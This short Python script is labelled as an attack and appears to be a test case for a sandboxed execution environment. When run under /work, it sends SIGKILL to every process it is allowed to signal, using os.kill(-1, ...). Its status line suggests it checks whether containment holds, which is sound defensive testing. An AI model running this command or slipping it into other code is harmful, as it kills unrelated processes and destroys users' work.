# attack: kills everything that it may
# status: failed|succeeded
import os, signal
if os.path.exists("/work") and os.getcwd().startswith("/work"):
    os.kill(-1, signal.SIGKILL)
